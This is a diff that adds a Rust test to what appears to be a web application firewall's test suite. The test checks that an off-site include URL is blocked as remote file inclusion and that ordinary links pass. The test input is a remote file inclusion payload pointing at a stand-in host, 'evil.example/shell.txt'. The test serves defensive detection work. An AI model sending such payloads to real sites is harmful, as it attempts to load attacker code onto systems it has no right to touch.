@@ -351,3 +351,30 @@ async fn attack_events_feed_playbooks() {
     .await;
     assert_eq!(other.0, 200);
 }
+
+#[tokio::test]
+async fn an_offsite_include_url_is_remote_file_inclusion_and_an_ordinary_link_is_not() {
+    let (_agent, base, seen) = setup(|b| b.waf_mode(WafMode::Block)).await;
+    let include = client()
+        .get(format!("{base}/search"))
+        .query(&[("page", "http://evil.example/shell.txt")])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(include.status(), 403);
+    let e = &attacks(&seen)[0];
+    assert_eq!(e.name, "app.sqreen.attack.lfi");
+    assert_eq!(e.properties["rule"], "lfi-rfi-offsite");
+    for link in [
+        "https://accounts.google.com/o/oauth2/auth?client_id=x",
+        "https://example.org/blog/2026/11/post.html",
+    ] {
+        let res = client()
+            .get(format!("{base}/search"))
+            .query(&[("next", link)])
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), 200, "{link}");
+    }
+}
